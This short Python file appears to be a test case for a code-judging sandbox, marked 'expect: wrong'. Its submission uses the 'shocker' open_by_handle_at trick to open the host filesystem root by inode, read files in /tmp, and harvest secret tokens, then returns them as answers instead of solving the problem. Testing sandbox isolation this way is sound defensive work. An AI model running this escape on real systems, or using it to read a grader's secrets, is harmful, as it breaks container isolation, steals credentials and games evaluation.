# expect: wrong
# problem: secret
# why: "shocker": open the filesystem root by inode (open_by_handle_at) and read /tmp from there
import ctypes
import os
import re
import struct

found = []
libc = ctypes.CDLL(None, use_errno=True)
handle = ctypes.create_string_buffer(16)
struct.pack_into("IiII", handle, 0, 8, 1, 2, 0)  # 8 bytes, FILEID_INO32_GEN, inode 2, gen 0
try:
    mount_fd = os.open(".", os.O_RDONLY)
    root = libc.open_by_handle_at(mount_fd, handle, os.O_RDONLY | os.O_DIRECTORY)
    if root >= 0:
        tmp = os.open("tmp", os.O_RDONLY | os.O_DIRECTORY, dir_fd=root)
        for name in os.listdir(tmp):
            try:
                with open(os.open(name, os.O_RDONLY, dir_fd=tmp), "rb") as f:
                    found += [m.decode() for m in re.findall(rb"tok-[0-9a-f]{16}", f.read(1 << 16))]
            except OSError:
                pass
except OSError:
    pass


def solve(x):
    return found[x] if x < len(found) else None
